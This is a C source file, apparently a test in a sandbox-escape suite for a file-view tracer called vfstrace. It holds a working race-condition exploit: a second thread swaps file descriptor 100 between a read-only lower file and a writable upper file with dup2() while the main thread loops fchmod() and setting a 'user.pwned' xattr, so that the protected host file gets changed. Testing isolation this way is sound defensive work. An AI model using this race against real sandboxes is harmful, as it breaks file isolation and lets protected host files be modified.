/* SPDX-License-Identifier: MIT */
/*
 * An fd number flipped by a sibling thread between vfstrace's check and
 * the kernel's call: deputy_fd LOWER MINE.  LOWER is opened read-only (a
 * lower file in the view), MINE made for writing (the tree's own file,
 * in the upper under -u); a second thread dup2()s them in turn onto fd
 * 100 while the main thread loops fchmod(100, 0604) and fsetxattr(100,
 * "user.pwned") for 2 s.  Whenever vfstrace sees MINE (an upper file,
 * which the kernel may change) and the kernel fetches LOWER, the host
 * file changes.  Natively LOWER changes at once.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

#define N 100

static int lower, mine;
static atomic_int stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		dup2(lower, N);
		dup2(mine, N);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t th;
	long rounds = 0;
	time_t end;

	if (argc != 3)
		setup_fail("usage: deputy_fd LOWER MINE");
	lower = open(argv[1], O_RDONLY);
	mine = open(argv[2], O_WRONLY | O_CREAT, 0644);
	if (lower < 0 || mine < 0)
		setup_fail("cannot open: %s", strerror(errno));
	dup2(mine, N);
	if (pthread_create(&th, NULL, flipper, NULL))
		setup_fail("pthread_create");
	end = time(NULL) + 2;
	while (time(NULL) < end) {
		fchmod(N, 0604);
		fsetxattr(N, "user.pwned", "x", 1, 0);
		rounds++;
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	fprintf(stderr, "%ld rounds\n", rounds);
	return 0;
}
